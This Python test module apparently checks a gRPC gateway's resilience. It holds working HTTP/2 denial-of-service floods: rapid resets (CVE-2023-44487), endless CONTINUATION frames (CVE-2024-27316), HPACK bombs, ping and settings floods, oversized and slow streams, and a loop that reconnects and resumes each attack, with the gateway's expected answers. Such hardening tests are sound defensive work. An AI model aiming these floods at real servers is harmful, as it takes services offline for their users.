"""The attacks. Each goes on until it is cancelled, and begins again where it was sent away."""

import asyncio
import struct
from collections import Counter
from collections.abc import Awaitable, Callable
from itertools import count
from typing import Final

from tests.gateway.floods.raw import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PREFACE,
    RESET,
    SETTINGS,
    WINDOW,
    Raw,
    frame,
    request,
)

MANY: Final = 500  # frames in a write
CANCEL: Final = struct.pack(">I", 8)
Attack = Callable[[Raw], Awaitable[None]]


async def rapid_resets(raw: Raw) -> None:
    """Calls that are cancelled in the same breath (CVE-2023-44487)."""
    first = raw.headers(1, request()) + frame(RESET, 0, 1, CANCEL)
    block = raw.encoder.encode(request())
    await raw.send(first)
    for start in count(3, 2 * MANY):
        numbers = range(start, start + 2 * MANY, 2)
        await raw.send(b"".join(frame(HEADERS, END_HEADERS, n, block) + frame(RESET, 0, n, CANCEL) for n in numbers))
        raw.seen["sent"] += MANY


async def calls_of(raw: Raw, fields: list[tuple[str, str]], body: bytes = b"") -> None:
    """Calls as fast as they are answered."""
    await raw.send(raw.headers(1, fields) + frame(DATA, END_STREAM, 1, body))
    block = raw.encoder.encode(fields)
    for number in count(3, 2):
        await raw.send(frame(HEADERS, END_HEADERS, number, block) + frame(DATA, END_STREAM, number, body))
        raw.seen["sent"] += 1
        await raw.until_few_are_open()


async def unknown_methods(raw: Raw) -> None:
    await calls_of(raw, request("/nobody.Knows/It"))


async def health_checks(raw: Raw) -> None:
    await calls_of(raw, request("/grpc.health.v1.Health/Check"), bytes(5))


async def pings(raw: Raw) -> None:
    await repeat(raw, frame(PING, body=bytes(8)))


async def settings(raw: Raw) -> None:
    await repeat(raw, frame(SETTINGS, body=struct.pack(">HI", 4, 65_535)))


async def empty_data(raw: Raw) -> None:
    await raw.send(raw.headers(1, request()))
    await repeat(raw, frame(DATA, 0, 1))


async def windows(raw: Raw) -> None:
    await repeat(raw, frame(WINDOW, body=struct.pack(">I", 1)))


async def unknown_frames(raw: Raw) -> None:
    await repeat(raw, frame(99, body=bytes(8)))


async def continuations(raw: Raw) -> None:
    """Headers that never end (CVE-2024-27316)."""
    await raw.send(raw.headers(1, request(), flags=0))
    await repeat(raw, frame(CONTINUATION, 0, 1, raw.encoder.encode([("x-more", "y" * 100)])))


async def empty_continuations(raw: Raw) -> None:
    await raw.send(raw.headers(1, request(), flags=0))
    await repeat(raw, frame(CONTINUATION, 0, 1))


async def repeat(raw: Raw, each: bytes) -> None:
    while True:
        await raw.send(each * MANY)
        raw.seen["sent"] += MANY


async def hpack_bombs(raw: Raw) -> None:
    """Send headers that are short on the wire and long unpacked: each byte stands for 4,000."""
    block = raw.encoder.encode([(name, value, True) for name, value in request()])  # nothing of it goes into the table
    await raw.send(frame(HEADERS, END_HEADERS, 1, block + b"\x40\x01a\x7f\xa1\x1e" + b"x" * 4000))
    for number in count(3, 2):
        await raw.send(frame(HEADERS, END_HEADERS, number, block + b"\xbe" * 1000))
        raw.seen["sent"] += 1
        await raw.until_few_are_open()


async def large_headers(raw: Raw) -> None:
    block = raw.encoder.encode(
        [*((name, value, True) for name, value in request()), ("x-large", "x" * 50_000, True)], huffman=False
    )
    parts = [block[at : at + 16_000] for at in range(0, len(block), 16_000)]
    for number in count(1, 2):
        await raw.send(
            frame(HEADERS, 0, number, parts[0])
            + b"".join(frame(CONTINUATION, 0, number, part) for part in parts[1:])
            + frame(CONTINUATION, END_HEADERS, number)
        )
        raw.seen["sent"] += 1
        await raw.until_few_are_open()


async def announced(raw: Raw) -> None:
    """Messages of which the head says 2 GB."""
    for number in count(1, 2):
        await raw.send(raw.headers(number, request()) + frame(DATA, 0, number, struct.pack(">BI", 0, 2**31 - 1) + b"x"))
        raw.seen["sent"] += 1
        await raw.until_few_are_open()


async def slow_hellos(raw: Raw) -> None:
    """Streams of which the first message comes byte by byte."""
    for number in range(1, 401, 2):
        await raw.send(raw.headers(number, request()) + frame(DATA, 0, number, struct.pack(">BI", 0, 10_000)))
        raw.seen["sent"] += 1
    while True:
        await asyncio.sleep(0.5)
        await raw.send(b"".join(frame(DATA, 0, number, b"x") for number in range(1, 401, 2)))


ATTACKS: Final[dict[str, Attack]] = {
    attack.__name__: attack
    for attack in (
        rapid_resets,
        unknown_methods,
        health_checks,
        pings,
        settings,
        windows,
        unknown_frames,
        empty_data,
        continuations,
        empty_continuations,
        hpack_bombs,
        large_headers,
        announced,
        slow_hellos,
    )
}
# What is answered. Where nothing stands, what it sends is read and thrown away.
ANSWERED: Final = {
    "rapid_resets": "reset 7",  # REFUSED_STREAM
    "unknown_methods": "status 12",
    "health_checks": "status 0",
    "pings": "goaway 11",  # ENHANCE_YOUR_CALM
    "settings": "settings ack",
    "empty_data": "closed",
    "empty_continuations": "closed",
    "hpack_bombs": "status 8",
    "large_headers": "status 8",
    "announced": "status 8",
    "slow_hellos": "status 8",
}
NOTHING: Final = {"silent": b"", "idle": PREFACE + frame(SETTINGS) + frame(SETTINGS, ACK)}


async def flood(attack: Attack, address: str, seen: Counter[str]) -> None:
    """*attack*, on one connection after another."""
    while True:
        raw = Raw(seen)
        try:
            await raw.open(address)
            await raw.send(PREFACE + frame(SETTINGS) + frame(SETTINGS, ACK))
            await attack(raw)
        except ConnectionError:
            await raw.over.wait()
        finally:
            await raw.close()


async def sit(said: bytes, number: int, address: str, seen: Counter[str]) -> list[Raw]:
    """So many connections that say *said*, and then nothing."""
    idle = [Raw(seen) for _ in range(number)]
    for raw in idle:
        await raw.open(address)
        await raw.send(said)
    return idle
